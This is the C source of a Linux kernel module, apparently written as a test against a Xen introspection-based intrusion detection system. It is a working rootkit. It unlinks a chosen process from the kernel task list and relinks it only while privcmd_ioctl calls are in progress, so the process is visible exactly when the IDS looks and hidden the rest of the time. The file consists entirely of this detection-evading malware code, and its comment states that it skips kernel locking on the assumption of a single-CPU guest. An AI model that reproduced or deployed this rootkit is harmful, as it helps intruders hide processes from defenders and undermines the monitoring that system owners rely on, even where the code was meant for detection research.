// SPDX-License-Identifier: GPL-2.0-only
/*
 * A rootkit that knows when it is looked at: a process is not in the list of tasks, except while the
 * relay makes a hypercall.
 *
 *   insmod hide.ko pid=N
 *   rmmod hide              it is in the list again
 *
 * Every request of the IDS comes through an ioctl of xen-privcmd, so what is read on demand finds a
 * list in order. For a guest with one CPU: where nothing else can walk the list meanwhile, no lock of
 * the kernel's is needed (and none is exported).
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0);

static struct task_struct *task;
static int looked_at; /* by how many calls at once */

static void unlink_task(void)
{
	preempt_disable();
	list_del_rcu(&task->tasks);
	preempt_enable();
}

static void link_task(void)
{
	preempt_disable();
	list_add_tail_rcu(&task->tasks, &init_task.tasks);
	preempt_enable();
}

static int enter(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	if (looked_at++ == 0)
		link_task();
	return 0;
}

static int leave(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	if (--looked_at == 0)
		unlink_task();
	return 0;
}

static struct kretprobe probe = {
	.kp.symbol_name = "privcmd_ioctl",
	.entry_handler = enter,
	.handler = leave,
	.maxactive = 64,
};

static int __init hide_init(void)
{
	struct pid *id = find_get_pid(pid);
	int rc;

	task = id ? get_pid_task(id, PIDTYPE_PID) : NULL;
	put_pid(id);
	if (!task)
		return -ESRCH;
	rc = register_kretprobe(&probe);
	if (rc) {
		put_task_struct(task);
		return rc;
	}
	unlink_task();
	return 0;
}

static void __exit hide_exit(void)
{
	unregister_kretprobe(&probe);
	link_task();
	put_task_struct(task);
}

module_init(hide_init);
module_exit(hide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test: a process that is hidden while nobody looks");
